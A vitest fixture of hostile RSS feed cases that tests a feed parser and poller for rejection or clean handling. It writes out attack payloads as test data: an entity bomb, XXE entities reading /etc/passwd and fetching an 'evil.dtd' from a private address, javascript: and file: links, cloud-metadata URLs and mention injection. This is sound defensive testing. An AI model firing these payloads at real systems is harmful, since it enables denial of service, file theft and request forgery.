import { expect } from 'vitest';
import { MAX_FEED_ITEMS } from '../../src/articles/feed.js';
import type { FeedCase } from './cases.js';

const xml = (path: string, body: string) => ({
  input: ({ server }: { server: { add: (p: string, r: object) => string } }) =>
    server.add(path, { body, headers: { 'content-type': 'application/rss+xml' } }),
});

const rss = (items: string, prolog = '') =>
  `<?xml version="1.0" encoding="UTF-8"?>${prolog}<rss version="2.0"><channel><title>Hostile Wire</title><link>https://wire.example/</link>${items}</channel></rss>`;

const item = (i: number, link: string, guid = `g-${i}`, title = `Licence review update ${i}`) =>
  `<item><title>${title}</title><link>${link}</link><guid isPermaLink="false">${guid}</guid><pubDate>Tue, 17 Nov 2026 08:${String(i % 60).padStart(2, '0')}:00 GMT</pubDate></item>`;

const LAUGHS = `<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">${Array.from(
  { length: 8 },
  (_, i) => `<!ENTITY lol${i + 2} "${`&lol${i + 1};`.repeat(10)}">`,
).join('')}]>`;

/** Feeds that attack the parser or flood the poller: clear errors, or bounded, clean item lists. */
export const FEED_CASES: FeedCase[] = [
  {
    kind: 'feed',
    name: 'billion laughs entity bomb',
    ...xml('/feed-bomb', rss(item(1, 'https://wire.example/a?x=&lol9;'), LAUGHS)),
    expect: ['FEED_INVALID'],
    queue: true,
  },
  {
    kind: 'feed',
    name: 'external entity (file:///etc/passwd)',
    ...xml(
      '/feed-xxe',
      rss(item(1, 'https://wire.example/&xxe;'), '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'),
    ),
    expect: ['FEED_INVALID'],
  },
  {
    kind: 'feed',
    name: 'external parameter entity',
    ...xml(
      '/feed-param',
      rss(
        item(1, 'https://wire.example/a'),
        '<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://10.0.0.5/evil.dtd"> %ext;]>',
      ),
    ),
    expect: ['FEED_INVALID'],
  },
  {
    kind: 'feed',
    name: '10,000 items',
    ...xml(
      '/feed-10k',
      rss(Array.from({ length: 10_000 }, (_, i) => item(i, `https://wire.example/story-${i}`)).join('')),
    ),
    expect: 'result',
    check: (items) => {
      expect(items.length).toBeLessThanOrEqual(MAX_FEED_ITEMS);
      expect(items.length).toBeGreaterThan(100);
      expect(new Set(items.map((i) => i.url)).size).toBe(items.length);
    },
  },
  {
    kind: 'feed',
    name: 'duplicate GUIDs',
    ...xml(
      '/feed-dupes',
      rss(
        Array.from({ length: 100 }, (_, i) =>
          item(i, `https://wire.example/d-${i % 10}`, `dup-${i % 10}`),
        ).join(''),
      ),
    ),
    expect: 'result',
    check: (items) => {
      expect(items).toHaveLength(10);
      expect(new Set(items.map((i) => i.guid)).size).toBe(10);
    },
  },
  {
    kind: 'feed',
    name: 'javascript:, file: and data: item links',
    ...xml(
      '/feed-schemes',
      rss(
        [
          item(1, 'javascript:alert(1)'),
          item(2, 'file:///etc/passwd'),
          item(3, 'data:text/html,hi'),
          item(4, 'https://wire.example/ok'),
          item(5, '//wire.example/relative-protocol'),
        ].join(''),
      ),
    ),
    expect: 'result',
    check: (items) => {
      // A protocol-relative link takes the feed's own scheme (http here).
      expect(items.map((i) => i.url)).toEqual([
        'https://wire.example/ok',
        'http://wire.example/relative-protocol',
      ]);
    },
  },
  {
    kind: 'feed',
    name: 'item links to private addresses',
    ...xml(
      '/feed-private',
      rss(item(1, 'http://10.0.0.5/internal') + item(2, 'http://169.254.169.254/latest')),
    ),
    expect: 'result',
    // The poller may list them; fetching any of them is refused (checked by the runner for every item).
    check: (items) => expect(items).toHaveLength(2),
  },
  {
    kind: 'feed',
    name: 'mentions and markup in item titles',
    ...xml(
      '/feed-markup',
      rss(
        item(
          1,
          'https://wire.example/m',
          'm1',
          '&lt;!channel&gt; @everyone &lt;@&amp;123456789012345678&gt; [x](javascript:1)',
        ),
      ),
    ),
    expect: 'result',
    check: (items) => expect(items[0]!.title).toContain('<!channel>'),
  },
  {
    kind: 'feed',
    name: 'malformed XML',
    ...xml('/feed-broken', '<rss><channel><item><title>x</channel>'),
    // The parser is lenient (unclosed tags are common in the wild): no error, but nothing to fetch either.
    expect: 'result',
    check: (items) => expect(items).toEqual([]),
  },
  {
    kind: 'feed',
    name: 'truncated XML mid-item',
    ...xml('/feed-truncated', rss(item(1, 'https://wire.example/t1')).slice(0, 200)),
    expect: 'result',
    check: (items) => expect(items).toEqual([]),
  },
  {
    kind: 'feed',
    name: 'an HTML page given as a feed',
    ...xml('/feed-html', '<!DOCTYPE html><html><body><p>Not a feed.</p></body></html>'),
    expect: ['FEED_INVALID'],
  },
  { kind: 'feed', name: 'empty feed body', ...xml('/feed-empty', ''), expect: ['INPUT_EMPTY'] },
];
